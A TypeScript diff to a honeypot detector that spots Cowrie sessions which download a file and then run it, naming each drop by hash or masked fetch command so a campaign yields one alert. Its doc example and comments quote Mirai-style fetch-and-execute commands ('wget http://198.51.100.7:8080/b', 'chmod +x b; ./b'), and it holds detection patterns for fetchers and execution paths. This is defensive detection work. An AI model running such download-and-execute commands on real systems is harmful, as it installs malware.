@@ -5,12 +5,18 @@
  * which tools exist and fetches nothing. Cowrie logs `session.file_download.failed` when its fetch fails, which is
  * still the attacker's intent, so it counts.
  *
+ * What a drop dropped is named the way a campaign's sources share it, so that the alert stage can
+ * make one alert of a campaign (SPEC: one command from many new sources is one alert): the file's
+ * SHA-256 when Cowrie logged one before the run, else the fetch as typed with its addresses and
+ * ports left out. Mirai's loaders serve the binary from each bot's own address
+ * (`wget http://<bot>:<port>/i`), so the address tells bots apart, not campaigns.
+ *
  * Sessions live in a bounded LRU table: most of a scan storm's sessions never close.
  *
  * ```ts
  * const drops = new DownloadThenRun();
- * assert.equal(drops.observe({ session: "a1", eventid: "cowrie.command.input", input: "wget http://x/b" }), false);
- * assert.equal(drops.observe({ session: "a1", eventid: "cowrie.command.input", input: "chmod +x b; ./b" }), true);
+ * assert.equal(drops.observe({ session: "a1", eventid: "cowrie.command.input", input: "wget http://198.51.100.7:8080/b" }), undefined);
+ * assert.equal(drops.observe({ session: "a1", eventid: "cowrie.command.input", input: "chmod +x b; ./b" }), "wget http://*\/b");
  * ```
  */
 import type { CanonicalEvent } from "../domain/canonical-event";
@@ -23,6 +29,10 @@ const RUNNERS = new Set(["chmod", "sh", "bash", "ash", "dash", "perl", "python",
 const EXECUTED_PATH = /^(\.\/|\/tmp\/|\/dev\/shm\/|\/var\/tmp\/)/;
 /** What a fetch fetches from: a URL or an address. A bare "wget" is Mirai asking whether the tool exists. */
 const SOURCE = /:\/\/|^\d{1,3}(\.\d{1,3}){3}\b/;
+/** An IPv4 address, with its port if any: what a campaign's fetch changes from bot to bot. */
+const ADDRESS = /\b\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?\b/g;
+/** A name is a label, not a payload (attacker text: a pasted megabyte needs no more than this). */
+const MAX_NAME_CHARS = 256;
 
 interface CommandPart {
   program: string;
@@ -48,37 +58,58 @@ function partsOf(commandLine: string, maxParts = 16): CommandPart[] {
 const fetches = ({ program, args }: CommandPart) => FETCHERS.has(program) && args.some((arg) => SOURCE.test(arg));
 const runs = ({ program }: CommandPart) => RUNNERS.has(program) || EXECUTED_PATH.test(program);
 
+/** A fetch as a campaign's bots all type it: "wget http://203.0.113.9:41075/i" is "wget http://*\/i". */
+function fetchName({ program, args }: CommandPart): string {
+  return cut(`${program} ${args.join(" ").replace(ADDRESS, "*")}`);
+}
+
+function cut(text: string): string {
+  return text.length > MAX_NAME_CHARS ? text.slice(0, MAX_NAME_CHARS) : text;
+}
+
+/** A session's fetch: what it fetched, by name (see the header), and whether that has run yet. */
+interface SessionFetch {
+  name: string;
+  ran: boolean;
+}
+
 export class DownloadThenRun {
-  /** Sessions that fetched something and have not run it yet (true) or already did (false). */
-  private readonly fetched: LruMap<string, boolean>;
+  /** Sessions that fetched something, with its name and whether it ran yet. */
+  private readonly fetched: LruMap<string, SessionFetch>;
 
   constructor(maxSessions = 50_000) {
     this.fetched = new LruMap(maxSessions);
   }
 
-  /** True on the event that runs what its session fetched before (once per session). */
-  observe(event: Partial<CanonicalEvent>): boolean {
+  /** On the event that runs what its session fetched before (once per session), what ran, by name; else undefined. */
+  observe(event: Partial<CanonicalEvent>): string | undefined {
     const session = event.session;
-    if (typeof session !== "string" || session === "") return false;
+    if (typeof session !== "string" || session === "") return undefined;
     const eventid = event.eventid ?? "";
     if (eventid.startsWith("cowrie.session.file_download") || eventid === "cowrie.session.file_upload") {
-      if (!this.fetched.has(session)) this.fetched.set(session, true);
-      return false;
+      const fetch = this.fetched.get(session);
+      const shasum = typeof event.shasum === "string" && event.shasum !== "" ? `sha256:${cut(event.shasum)}` : undefined;
+      const name = shasum ?? (typeof event.url === "string" ? cut(event.url.replace(ADDRESS, "*")) : eventid.slice("cowrie.session.".length));
+      // The file's hash names it best; a fetch typed before it is the same file.
+      if (!fetch) this.fetched.set(session, { name, ran: false });
+      else if (!fetch.ran && shasum) fetch.name = shasum;
+      return undefined;
     }
-    if (eventid !== "cowrie.command.input" || typeof event.input !== "string") return false;
+    if (eventid !== "cowrie.command.input" || typeof event.input !== "string") return undefined;
     const parts = partsOf(event.input);
-    const pending = this.fetched.get(session);
-    if (pending === true && parts.some(runs)) {
-      this.fetched.set(session, false);
-      return true;
+    const fetch = this.fetched.get(session);
+    if (fetch && !fetch.ran && parts.some(runs)) {
+      fetch.ran = true;
+      return fetch.name;
     }
     // A fetch and its run on one command line ("wget ...; chmod +x b; ./b") count at once.
     const fetchAt = parts.findIndex(fetches);
-    if (pending === undefined && fetchAt >= 0) {
-      const runsAfter = parts.slice(fetchAt + 1).some(runs);
-      this.fetched.set(session, !runsAfter);
-      return runsAfter;
+    if (!fetch && fetchAt >= 0) {
+      const name = fetchName(parts[fetchAt]);
+      const ran = parts.slice(fetchAt + 1).some(runs);
+      this.fetched.set(session, { name, ran });
+      return ran ? name : undefined;
     }
-    return false;
+    return undefined;
   }
 }
